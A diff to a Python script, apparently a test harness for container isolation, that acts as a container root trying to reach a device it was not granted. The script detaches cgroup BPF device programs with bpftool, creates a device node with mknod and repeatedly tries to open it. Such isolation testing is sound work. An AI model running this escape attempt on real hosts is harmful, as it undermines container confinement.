@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 """Root of a container that wants a device it was not given: detaches every device program that it can reach, makes its
-own node, and tries to open it again and again. Usage: intruder.py MAJOR MINOR FILE; runs until FILE is gone, then says
+own node unless it has one from better times, and tries to open it again and again. Usage: intruder.py MAJOR MINOR FILE; runs until FILE is gone, then says
 how often it tried and how often it got in."""
 import os
 import subprocess
@@ -16,9 +16,8 @@ for path, dirs, _ in os.walk("/sys/fs/cgroup"):
             done = subprocess.run(["bpftool", "cgroup", "detach", path, words[1], "id", words[0]], capture_output=True)
             detached += done.returncode == 0
 node = "/root/stolen"
-if os.path.exists(node):
-    os.unlink(node)
-os.mknod(node, 0o20600, os.makedev(major, minor))
+if not os.path.exists(node):
+    os.mknod(node, 0o20600, os.makedev(major, minor))
 print("detached", detached, flush=True)
 tries = opened = 0
 errors = {}
